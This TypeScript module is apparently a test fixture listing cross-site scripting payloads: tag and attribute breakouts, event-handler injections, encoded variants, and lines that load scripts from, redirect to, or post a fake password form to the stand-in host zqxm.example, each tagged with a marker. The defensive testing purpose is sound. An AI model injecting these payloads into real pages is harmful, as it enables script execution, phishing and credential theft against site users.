/** Part of the name of an element or attribute in each payload, by which parsed markup is recognised. */
export const marker = 'zqxm';

const run = 'window.zqxmRan=1';
const lineSeparator = '\u2028';

/** Texts that take effect if user text is parsed as markup or script; each is short enough for a title. */
export const markupPayloads = [
  `<script ${marker}>${run}</script>`,
  `<ScRiPt/${marker}>${run}</sCrIpT>`,
  `<script ${marker} src=//zqxm.example/a.js></script>`,
  `<script ${marker} type=module>${run}</script>`,
  `<img ${marker} src=x onerror=${run}>`,
  `<img/${marker}/src=x/onerror=${run}//`,
  `<img ${marker} src=https://zqxm.example/a.png>`,
  `<svg ${marker} onload=${run}>`,
  `<svg ${marker}><script>${run}</script></svg>`,
  `<svg ${marker}><a xlink:href="javascript:${run}">a</a></svg>`,
  `<math ${marker}><mtext><img src=x onerror=${run}></mtext></math>`,
  `<form ${marker} action=https://zqxm.example><input name=password><button>Sign In</button></form>`,
  `<button ${marker} formaction=https://zqxm.example>Sign In</button>`,
  `<input ${marker} autofocus onfocus=${run}>`,
  `<meta ${marker} http-equiv=refresh content="0;url=https://zqxm.example">`,
  `<base ${marker} href=https://zqxm.example/>`,
  `<link ${marker} rel=stylesheet href=https://zqxm.example/a.css>`,
  `<style ${marker}>*{display:none}</style>`,
  `<template ${marker}><script>${run}</script></template>`,
  `<iframe ${marker} srcdoc="<script>parent.zqxmRan=1</script>"></iframe>`,
  `<iframe ${marker} src="javascript:parent.zqxmRan=1"></iframe>`,
  `<object ${marker} data="data:text/html,<script>${run}</script>"></object>`,
  `<embed ${marker} src=https://zqxm.example>`,
  `<details ${marker} open ontoggle=${run}>`,
  `<video ${marker} src=x onerror=${run}></video>`,
  `<a ${marker} href="javascript:${run}">a</a>`,
  `<${marker}-element onclick=${run}>a</${marker}-element>`,
  `</title><script ${marker}>${run}</script>`,
  `</script><script ${marker}>${run}</script>`,
  `</style><img ${marker} src=x onerror=${run}>`,
  `</textarea><img ${marker} src=x onerror=${run}>`,
  `--><img ${marker} src=x onerror=${run}><!--`,
  `]]><img ${marker} src=x onerror=${run}>`,
  `<!--<script ${marker}>${run}</script>`,
  `" ${marker}="" onmouseover="${run}`,
  `' ${marker}='' onmouseover='${run}`,
  `"><img ${marker} src=x onerror=${run}>`,
  `'><img ${marker} src=x onerror=${run}>`,
  `"}</script><img ${marker} src=x onerror=${run}>{"`,
  `\\"}</script><img ${marker} src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img ${marker} src=x onerror=${run}>">`,
] as const;

/** Texts that become markup only if they are decoded once too often or put into a script. */
const decodingPayloads = [
  `&lt;img ${marker} src=x onerror=${run}&gt;`,
  `&#60;script ${marker}&#62;${run}&#60;/script&#62;`,
  `&amp;lt;script ${marker}&amp;gt;`,
  `%3Cscript ${marker}%3E${run}%3C/script%3E`,
  `\\u003cscript ${marker}\\u003e${run}`,
  `";${run};//`,
  `';${run};//`,
  `\${${run}}`,
  `\`-(${run})-\``,
  `a${lineSeparator}${run}${lineSeparator}//`,
  `javascript:${run}`,
] as const;

export const allPayloads: readonly string[] = [...markupPayloads, ...decodingPayloads];
